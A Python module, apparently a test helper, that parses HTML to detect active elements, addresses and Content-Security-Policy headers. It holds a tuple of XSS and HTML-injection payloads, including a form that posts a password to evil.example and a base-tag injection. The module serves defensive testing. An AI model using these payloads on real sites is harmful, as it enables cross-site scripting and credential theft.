"""What a page of HTML would do in a browser, as its parser sees it."""

from __future__ import annotations

from html.parser import HTMLParser

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">N1</a>',
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<iframe src="https://evil.example"></iframe>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '"onmouseover="alert(1)',
    "</td></table><base href='https://evil.example'>",
)
"""Cells of a delivery that would act if they became markup."""

ACTIVE = {"script", "img", "form", "input", "iframe", "frame", "object", "embed", "link", "base", "svg", "button"}


class Markup(HTMLParser):
    """Elements, addresses and text of a page. `active`: what loads, sends, moves on or runs something."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.active: list[str] = []
        self.addresses: list[str] = []
        self.policies: list[str] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Called by HTMLParser."""
        given = dict(attrs)
        if tag in ACTIVE or any(name.startswith("on") for name in given):
            self.active.append(self.get_starttag_text() or tag)
        if "http-equiv" in given:
            is_policy = given["http-equiv"] == "Content-Security-Policy"
            (self.policies if is_policy else self.active).append(given.get("content") or "")
        self.addresses += [given[name] or "" for name in ("href", "src", "action", "srcset") if name in given]

    def handle_data(self, data: str) -> None:
        """Called by HTMLParser."""
        self.text += data
